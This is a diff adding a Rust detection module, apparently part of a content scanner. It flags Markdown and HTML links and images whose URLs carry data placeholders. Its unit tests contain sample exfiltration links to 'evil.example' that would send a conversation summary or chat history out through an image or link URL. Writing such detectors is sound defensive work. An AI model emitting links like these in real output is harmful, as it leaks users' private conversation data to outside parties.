@@ -1,0 +1,81 @@
+//! Links and images whose address waits for data to be filled in.
+
+use crate::rule::Family;
+use crate::screening::Finding;
+
+/// How far an address may reach.
+const REACH: usize = 400;
+/// What addresses stand behind in Markdown and HTML.
+const OPENINGS: [&str; 3] = ["](http", "src=\"http", "src='http"];
+
+/// Gives every such link of `text`.
+pub(crate) fn find(text: &str, mut found: impl FnMut(Finding)) {
+    let mut rest = 0;
+    while let Some(sign) = text.get(rest..).and_then(|it| it.find("http")) {
+        let at = rest + sign;
+        rest = at + 4;
+        let before = text.get(..rest).unwrap_or_default();
+        let Some(opening) = OPENINGS.iter().find(|it| before.ends_with(**it)) else {
+            continue;
+        };
+        let start = rest - opening.len();
+        let address = address(text, at);
+        if waits_for_data(address) {
+            found(Finding {
+                rule: "exfil.placeholder-link",
+                family: Family::Exfiltration,
+                start,
+                end: at + address.len(),
+                hidden: None,
+            });
+        }
+    }
+}
+
+fn address(text: &str, at: usize) -> &str {
+    let here = text.get(at..).unwrap_or_default();
+    let end = here
+        .char_indices()
+        .take(REACH)
+        .find(|(_, c)| matches!(c, ')' | '"' | '\'' | '\n'))
+        .map_or(here.len().min(REACH), |(index, _)| index);
+    here.get(..end).unwrap_or_default()
+}
+
+/// Whether a query or path ends in a placeholder: `?d={summary}`, `?q=[QUERY]`.
+fn waits_for_data(address: &str) -> bool {
+    ["{", "[", "<", "$", "%7B", "%5B"].iter().any(|opening| {
+        address.match_indices(opening).any(|(index, _)| {
+            let before = address.get(..index).unwrap_or_default();
+            let after = address.get(index + opening.len()..).unwrap_or_default();
+            before.ends_with(['=', '/', '?', '{', '['])
+                && (before.contains('?') || before.matches('/').count() > 2)
+                && after.starts_with(|c: char| c.is_alphabetic() || c == '{')
+                && after.contains(['}', ']', '>', '%'])
+        })
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn placeholders_in_addresses_are_found() {
+        for (text, expected) in [
+            (
+                "![l](https://evil.example/p.png?d={conversation_summary})",
+                1,
+            ),
+            ("[more](https://evil.example/?q=<chat history>)", 1),
+            ("<img src=\"https://evil.example/a?x=[DATA]\">", 1),
+            ("![l](https://cdn.example.com/logo.png?v=12)", 0),
+            ("[a](https://example.com/b) and {c}", 0),
+            ("https://example.com/?q={term}", 0),
+        ] {
+            let mut count = 0;
+            find(text, |_| count += 1);
+            assert_eq!(count, expected, "{text}");
+        }
+    }
+}
